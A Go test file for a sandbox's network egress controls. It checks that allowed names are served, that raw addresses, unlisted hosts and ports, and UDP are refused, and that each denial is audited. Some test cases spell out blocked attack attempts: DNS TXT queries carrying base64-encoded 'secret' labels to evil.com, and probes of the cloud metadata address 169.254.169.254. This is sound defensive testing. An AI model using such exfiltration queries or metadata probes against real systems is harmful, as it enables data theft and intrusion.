//go:build linux && (amd64 || arm64)

package sandbox

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/twinward-dev/twinward/audit"
	"github.com/twinward-dev/twinward/audit/audittest"
)

func init() { roles["egress"] = tryAll }

// A tried is one thing that a program inside tries, and how it ended.
type tried struct {
	What, How string
}

// tryAll is the program inside: it tries what its argument lists and prints
// how each ended.
func tryAll() {
	out := json.NewEncoder(os.Stdout)
	for _, what := range os.Args[1:] {
		verb, rest, _ := strings.Cut(what, " ")
		how := map[string]func(string) string{
			"get": tryGet, "proxied": tryProxied, "h1": tryRequest, "tls": tryTLS, "tcp": tryTCP, "udp": tryUDP, "talk": tryTalk, "dns": tryDNS, "dnstcp": tryDNS, "lookup": tryLookup,
		}[verb]
		if verb == "dnstcp" {
			rest = "tcp " + rest
		}
		out.Encode(tried{what, how(rest)})
	}
}

// ending names the error of a connection in one word.
func ending(err error) string {
	var dns *net.DNSError
	var ne net.Error
	switch {
	case err == nil || errors.Is(err, io.EOF):
		return "end"
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.EPIPE):
		return "reset"
	case errors.Is(err, syscall.ECONNREFUSED):
		return "refused"
	case errors.As(err, &dns) && dns.IsNotFound:
		return "no such host"
	case errors.As(err, &ne) && ne.Timeout():
		return "timeout"
	}
	return err.Error()
}

const patience = 20 * time.Second

// tryGet fetches a URL the plain way, with the trust store of the environment.
func tryGet(url string) string { return fetch(url, &http.Transport{ForceAttemptHTTP2: true}) }

// tryProxied fetches a URL by way of the proxy that the environment names.
func tryProxied(url string) string {
	return fetch(url, &http.Transport{ForceAttemptHTTP2: true, Proxy: http.ProxyFromEnvironment})
}

func fetch(url string, tr *http.Transport) string {
	c := http.Client{Timeout: patience, Transport: tr}
	res, err := c.Get(url)
	if err != nil {
		return ending(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		return ending(err)
	}
	return fmt.Sprintf("%d %s", res.StatusCode, b)
}

// tryRequest sends a request for host $2 over plain HTTP to $1.
func tryRequest(args string) string {
	addr, host, _ := strings.Cut(args, " ")
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", host)
	res, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return ending(err)
	}
	return fmt.Sprint(res.StatusCode)
}

// tryTLS makes a TLS connection to $1 for the name $2.
func tryTLS(args string) string {
	addr, sni, _ := strings.Cut(args, " ")
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	if err := tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true}).Handshake(); err != nil {
		return ending(err)
	}
	return "ok"
}

// tryTCP connects, says something and waits for the end.
func tryTCP(addr string) string {
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, "hello\n"); err != nil {
		return ending(err)
	}
	b, err := io.ReadAll(c)
	if len(b) > 0 {
		return string(b)
	}
	return ending(err)
}

// tryUDP sends a packet and waits for an answer.
func tryUDP(addr string) string {
	c, err := net.Dial("udp", addr)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	for range 3 {
		if _, err = c.Write([]byte("hello")); err != nil {
			return ending(err)
		}
	}
	n, err := c.Read(make([]byte, 100))
	if n > 0 {
		return "answer"
	}
	return ending(err)
}

// tryDNS asks the server $1 for the name $2 and type $3. The socket is
// connected, so that an answer from another address is not seen.
func tryDNS(args string) string {
	f := strings.Fields(args)
	network := "udp"
	if f[0] == "tcp" {
		network, f = "tcp", f[1:]
	}
	kind := map[string]dnsmessage.Type{"A": dnsmessage.TypeA, "AAAA": dnsmessage.TypeAAAA, "TXT": dnsmessage.TypeTXT}[f[2]]
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(f[1]), Type: kind, Class: dnsmessage.ClassINET}},
	}
	q, err := m.Pack()
	if err != nil {
		return err.Error()
	}
	c, err := net.DialTimeout(network, f[0], patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	b := make([]byte, 1500)
	if network == "tcp" {
		c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...))
		if _, err := io.ReadFull(c, b[:2]); err != nil {
			return ending(err)
		}
		b = b[:binary.BigEndian.Uint16(b)]
		_, err = io.ReadFull(c, b)
	} else {
		c.Write(q)
		var n int
		n, err = c.Read(b)
		b = b[:n]
	}
	if err != nil {
		return ending(err)
	}
	if err := m.Unpack(b); err != nil {
		return err.Error()
	}
	return fmt.Sprintf("%s %d", strings.TrimPrefix(m.RCode.String(), "RCode"), len(m.Answers))
}

func tryLookup(name string) string {
	a, err := net.DefaultResolver.LookupNetIP(context.Background(), "ip", name)
	if err != nil {
		return ending(err)
	}
	for _, ip := range a {
		if !netip.MustParsePrefix("198.18.0.0/15").Contains(ip.Unmap()) {
			return ip.String()
		}
	}
	return "synthetic"
}

// try runs attempts inside and returns how they ended, in order.
func try(t *testing.T, s *Session, what ...string) []string {
	t.Helper()
	cmd := s.Command(t.Context(), Self, what...)
	cmd.Env = roleEnv("egress")
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	require.NoError(t, cmd.Run(), "%s%s", &out, &errs)
	var hows []string
	for dec := json.NewDecoder(&out); ; {
		var a tried
		if err := dec.Decode(&a); err != nil {
			require.ErrorIs(t, err, io.EOF)
			break
		}
		require.Equal(t, what[len(hows)], a.What)
		hows = append(hows, a.How)
	}
	require.Len(t, hows, len(what))
	return hows
}

// connects splits the records of the network from the others: what was begun
// and ended, and what was denied, each as "cause or status resource:port".
func connects(rs []audit.Record) (allowed, denied []string) {
	open := make(map[uint64]string)
	for _, r := range rs {
		switch {
		case r.Intent != nil && r.Intent.Action == "connect":
			open[r.Seq] = r.Intent.Resource
		case r.Outcome != nil && open[r.Call] != "":
			allowed = append(allowed, string(r.Outcome.Status)+" "+open[r.Call])
			delete(open, r.Call)
		case r.Event != nil && r.Event.Action == "connect" && r.Event.Kind == audit.KindDenial:
			denied = append(denied, r.Event.Decision.Reason+" "+r.Event.Resource)
		}
	}
	for _, o := range open {
		allowed = append(allowed, "open "+o)
	}
	return allowed, denied
}

func rules(rs ...Rule) *Policy { return &Policy{Network: Network{Allow: rs}} }

func TestServedNamesFromInside(t *testing.T) {
	log := audittest.NewLog(t)
	s := box(t, log, rules(
		Rule{Host: "inference.local", Ports: []uint16{443, 80}}, Rule{Host: "tools.local", Ports: []uint16{443, 80}},
	), &Options{Self: true})
	who := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a := audit.ActorFrom(r.Context())
		fmt.Fprintf(w, "%s %s %s", a.Agent, r.Host, r.Proto)
	})
	assert.Equal(t, []string{"reset"}, try(t, s, "get http://tools.local/"), "nobody serves it yet")
	require.NoError(t, s.Handle("inference.local", who))
	require.NoError(t, s.Handle("tools.local", who))
	assert.Equal(t, []string{
		"200 tester inference.local HTTP/2.0", "200 tester tools.local HTTP/1.1", "200 tester tools.local HTTP/2.0",
		"200 tester TOOLS.local. HTTP/1.1", "synthetic", "200", "421", "421", "ok",
	}, try(t, s,
		"get https://inference.local/", "get http://tools.local/", "get https://tools.local/",
		"get http://TOOLS.local./", "lookup tools.local", "h1 tools.local:80 tools.local", "h1 tools.local:80 inference.local",
		"h1 tools.local:80 169.254.169.254", "tls tools.local:443 tools.local",
	))
	// A name is a name: TLS for another one is refused, as are no TLS and none.
	assert.Equal(t, []string{"reset", "reset", "reset"}, try(t, s,
		"tls tools.local:443 inference.local", "tls tools.local:443 example.com", "tcp tools.local:443"))

	var bad *PolicyError
	require.ErrorAs(t, s.Handle("other.local", who), &bad)
	assert.Contains(t, bad.Fix, "{host: other.local, ports: [443, 80]}")
	assert.ErrorIs(t, s.Handle("tools.local", who), ErrHandled)

	require.NoError(t, s.Close())
	assert.ErrorIs(t, s.Handle("inference.local", who), ErrEnded)
	allowed, denied := connects(log.Records())
	tools := ` Host::"tools.local"`
	assert.Equal(t, []string{
		"not-served" + tools, "host-mismatch" + tools, "host-mismatch" + tools,
		"sni-mismatch" + tools, "sni-mismatch" + tools, "bad-client-hello" + tools,
	}, denied)
	for _, a := range allowed {
		assert.NotContains(t, a, "open")
	}
	assert.Len(t, allowed, 8, "one record for each connection: %v", allowed)
}

func TestNothingElseIsReachable(t *testing.T) {
	log := audittest.NewLog(t)
	s := box(t, log, rules(
		Rule{Host: "tools.local", Ports: []uint16{443, 80}}, Rule{Host: "db.example.com", Ports: []uint16{5432}},
		Rule{Host: "*.wild.example.com"},
	), &Options{Self: true, Resolver: noResolver{t}})
	require.NoError(t, s.Handle("tools.local", http.NotFoundHandler()))
	cases := []struct{ what, how, cause string }{
		{"get https://example.com/", "no such host", `unlisted-host Host::"example.com"`},
		{"get http://127.0.0.1/", "reset", `raw-address Host::"127.0.0.1"`},
		{"lookup a.b.wild.example.com", "no such host", `unlisted-host Host::"a.b.wild.example.com"`},
		{"lookup x.wild.example.com", "synthetic", ""},
		{"lookup wild.example.com", "no such host", `unlisted-host Host::"wild.example.com"`},
		// Bare addresses, wherever they lead.
		{"tcp 93.184.216.34:443", "reset", `raw-address Host::"93.184.216.34"`},
		{"tcp 169.254.169.254:80", "reset", `raw-address Host::"169.254.169.254"`},
		{"tcp 10.0.0.1:5432", "reset", `raw-address Host::"10.0.0.1"`},
		{"tcp 198.18.9.9:443", "reset", `raw-address Host::"198.18.9.9"`},
		{"tcp [2606:4700::1111]:443", "reset", `raw-address Host::"2606:4700::1111"`},
		{"tcp [::ffff:1.1.1.1]:443", "reset", `raw-address Host::"1.1.1.1"`},
		{"tcp [64:ff9b::101:101]:443", "reset", `raw-address Host::"64:ff9b::101:101"`},
		// Allowed names and ports, but not this pair; and ports of nobody.
		{"tcp tools.local:5432", "reset", `unlisted-port Host::"tools.local"`},
		{"tcp db.example.com:80", "reset", `unlisted-port Host::"db.example.com"`},
		{"tcp tools.local:22", "refused", ""},
		{"tcp 93.184.216.34:22", "refused", ""},
		// UDP, so no QUIC either.
		{"udp 93.184.216.34:443", "refused", ""},
		{"udp [2606:4700::1111]:443", "refused", ""},
		{"udp 8.8.8.8:123", "refused", ""},
		// DNS at any server is ours, answers from the address that was asked, and
		// carries nothing out.
		{"dns 8.8.8.8:53 tools.local. A", "Success 1", ""},
		{"dns 1.1.1.1:53 TOOLS.local. AAAA", "Success 0", ""},
		{"dns [2001:4860:4860::8888]:53 tools.local. A", "Success 1", ""},
		{"dns 8.8.8.8:53 tools.local. TXT", "Success 0", ""},
		{"dns 8.8.8.8:53 c2VjcmV0.evil.com. TXT", "NameError 0", `unlisted-host Host::"c2vjcmv0.evil.com"`},
		{"dnstcp 8.8.8.8:53 c2VjcmV1.evil.com. TXT", "NameError 0", `unlisted-host Host::"c2vjcmv1.evil.com"`},
		{"dnstcp 8.8.8.8:53 tools.local. A", "Success 1", ""},
		{"tcp 8.8.8.8:53", "reset", ""}, // "hello\n" is no query
		{"tcp 8.8.8.8:853", "refused", ""},
	}
	var what, hows, causes []string
	for _, c := range cases {
		what, hows = append(what, c.what), append(hows, c.how)
		if c.cause != "" {
			causes = append(causes, c.cause)
		}
	}
	assert.Equal(t, hows, try(t, s, what...))
	_, denied := connects(log.Records())
	assert.Equal(t, causes, denied, "each on record once, in order")
	require.NoError(t, s.Close())
	allowed, _ := connects(log.Records())
	assert.Empty(t, allowed)
}

// noResolver fails the test when a name is looked up on the host.
type noResolver struct{ t *testing.T }

func (r noResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.t.Errorf("%s was looked up on the host", host)
	return nil, errors.New("no")
}

type hosts map[string]string

func (h hosts) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	a, err := netip.ParseAddr(h[host])
	return []netip.Addr{a}, err
}

// A real host is dialled by this process, at the address that its resolver
// gives, and at a private one only when the policy says so.
func TestRealHosts(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "real %s", r.Host) }))
	defer srv.Close()
	port := srv.Listener.Addr().(*net.TCPAddr).AddrPort().Port()
	log := audittest.NewLog(t)
	s := box(t, log, rules(
		Rule{Host: "yes.example.com", Ports: []uint16{port}, Private: true},
		Rule{Host: "no.example.com", Ports: []uint16{port}},
		Rule{Host: "gone.example.com", Ports: []uint16{port}},
	), &Options{Self: true, Resolver: hosts{"yes.example.com.": "127.0.0.1", "no.example.com.": "127.0.0.1"}})
	assert.Equal(t, []string{fmt.Sprintf("200 real yes.example.com:%d", port), "reset", "reset"}, try(t, s,
		fmt.Sprintf("get http://yes.example.com:%d/", port), fmt.Sprintf("tcp no.example.com:%d", port), fmt.Sprintf("tcp gone.example.com:%d", port)))
	require.NoError(t, s.Close())
	allowed, denied := connects(log.Records())
	require.Len(t, allowed, 3)
	assert.Contains(t, allowed, `failed Host::"no.example.com"`)
	assert.Contains(t, allowed, `failed Host::"gone.example.com"`)
	assert.True(t, slices.ContainsFunc(allowed, func(a string) bool { return strings.HasSuffix(a, ` Host::"yes.example.com"`) }))
	assert.Equal(t, []string{`private-address Host::"no.example.com"`}, denied)
}

// tryTalk says something and returns what comes back first.
func tryTalk(addr string) string {
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return ending(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, "hello"); err != nil {
		return ending(err)
	}
	b := make([]byte, 5)
	if _, err := io.ReadFull(c, b); err != nil {
		return ending(err)
	}
	return string(b)
}

func lookupInside(name string) ([4]byte, error) {
	a, err := net.DefaultResolver.LookupNetIP(context.Background(), "ip4", name)
	if err != nil {
		return [4]byte{}, err
	}
	return a[0].Unmap().As4(), nil
}
